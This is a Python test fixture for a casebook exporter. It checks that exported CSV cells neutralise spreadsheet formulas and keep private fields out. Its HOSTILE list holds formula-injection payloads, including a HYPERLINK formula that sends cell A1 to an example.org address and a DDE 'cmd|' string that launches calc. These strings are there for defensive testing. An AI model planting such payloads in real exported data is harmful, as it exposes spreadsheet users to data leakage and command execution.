"""Owns the data under test: the casebooks that are exported, and how their cells are read back."""

import json
import re
import subprocess
import tempfile
import unittest
from pathlib import Path

import duckdb

REPOSITORY = Path(__file__).resolve().parents[2]

MANIFEST = """\
casebook: 1
title: "=Hostile; 'title'"
edition: {date: 2026-01-02}
licence: All rights reserved; ask
editors: [{name: "@editor"}]
themes: {telestroke: {title: "+Telestroke"}, unused: {title: Unused}}
regions: {groups: {"=Group; one": [SE, EE]}}
checklists: [icheck-dh]
facets:
  kind: {title: Kind of place, pointer: /technology/description}
  summary: {title: Same name, pointer: /status}
form: {extend: form.yaml}
"""

FORM = """\
properties:
  secret_plan: {title: Plan, type: string, x-private: true}
  open_plan: {title: Open plan, type: string}
"""

# Texts that a spreadsheet, a reader of CSV or the rules of the lists could stumble over.
HOSTILE = [
    '=HYPERLINK("https://example.org?x="&A1;"x")',
    "+1; -1;@x",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "'=1",
    "''quoted",
    "＝1＋1",
    'say "x";"=1+1"',
    "a\\;b\\\\;",
    "; ;",
    "comma, and \"quotes\"",
    "line\n=1+1\n\n-x",
    "\u05e9\u05dc\u05d5\u05dd \u200fabc",
    "NULL",
    "007",
    "1e5",
    "true",
    "NaN",
]

CASE = {
    "regions": ["SE221", "EE"],
    "themes": ["telestroke"],
    "status": "pilot",
    "outcome": "mixed",
    "contact": {"name": "Nomen Nescio", "email": "nn@example.org", "organisation": "Secret Office"},
    "consent": {"given": True, "by": "Consenting Person", "date": "2020-01-01"},
    "review": {"state": "accepted", "reviewer": "Reviewing Person", "notes": "Internal remark"},
    "secret_plan": "Hidden plan",
    "open_plan": "=Open plan",
}

# What only private fields say.
PRIVATE = ["Nescio", "nn@example", "Secret Office", "Consenting", "Reviewing", "Internal", "Hidden plan", "secret_plan"]


def program(*arguments):
    """What the program prints; its status must be 0."""
    run = subprocess.run(
        ["cargo", "run", "--locked", "--quiet", "--", *map(str, arguments)],
        cwd=REPOSITORY,
        capture_output=True,
    )
    if run.returncode != 0:
        raise AssertionError(f"{arguments}: {run.returncode}: {run.stderr.decode()}")
    return run.stdout.decode()


def write_hostile(folder):
    """A casebook whose every text is hostile. JSON is YAML too."""
    (folder / "cases").mkdir()
    (folder / "casebook.yaml").write_text(MANIFEST)
    (folder / "form.yaml").write_text(FORM)
    for number, text in enumerate(HOSTILE):
        short = " ".join(text.split())
        case = CASE | {
            "id": f"c{number}",
            "title": short,
            "summary": text,
            "keywords": [short, f"x {number}; y", "plain"],
            "organisations": [{"name": short, "role": "lead", "region": "SE221"}],
            "technology": {"description": text, "standards": [short, "B\\"], "components": []},
            "results": [
                {"measure": short, "value": -3, "baseline": 0.1 + number, "unit": "%", "note": text, "source": "S1"},
                {"measure": "Words", "value": short},
            ],
            "scale": [{"measure": "Big", "value": 123456789012345678, "when": "2003/2017-01"}],
            "funding": [{"funder": short, "programme": short, "amount": -1.5, "currency": "EUR", "year": 2003}],
            "costs": [{"what": short, "amount": 1e-7, "currency": "SEK", "frequency": "yearly", "note": text}],
            "sources": {"S1": {"title": short, "doi": "10.1000/1"}},
        }
        (folder / "cases" / f"c{number}.yaml").write_text(json.dumps(case))
    return folder


class Exported:
    """A casebook's data in a folder of its own."""

    def __init__(self, root):
        self.keep = tempfile.TemporaryDirectory()
        unittest.addModuleCleanup(self.keep.cleanup)
        self.folder = Path(self.keep.name)
        program("export", "--root", root, "--format", "datapackage", "-o", self.folder, "-q")
        self.package = json.loads((self.folder / "datapackage.json").read_text())
        self.cases = json.loads((self.folder / "cases.json").read_text())["cases"]

    def cells(self, table):
        """The rows of a table as DuckDB reads them, every cell a text and nothing undone."""
        path = str(self.folder / f"{table}.csv")
        query = "select * from read_csv(?, all_varchar = true, header = true, delim = ',', quote = '\"', escape = '\"', nullstr = '', new_line = '\\n', max_line_size = 10000000)"
        result = duckdb.execute(query, [path])
        names = [column[0] for column in result.description]
        return [dict(zip(names, (cell or "" for cell in row))) for row in result.fetchall()]


def text_of(cell):
    """A cell's text without the apostrophes that keep spreadsheets from calculating it."""
    cell = re.sub(r"^'('*[\t\r\n])", r"\1", cell)
    return re.sub(r"(^|[;\t\r\n])([ \u00a0\"]*)'('*[=+\-@＝＋－＠])", r"\1\2\3", cell)


def list_of(cell):
    """The entries of a cell that holds several texts."""
    text = text_of(cell)
    entries = re.findall(r"((?:\\.|[^;\\])+)(?:; |$)", text, re.DOTALL)
    return [re.sub(r"\\(.)", r"\1", entry) for entry in entries]
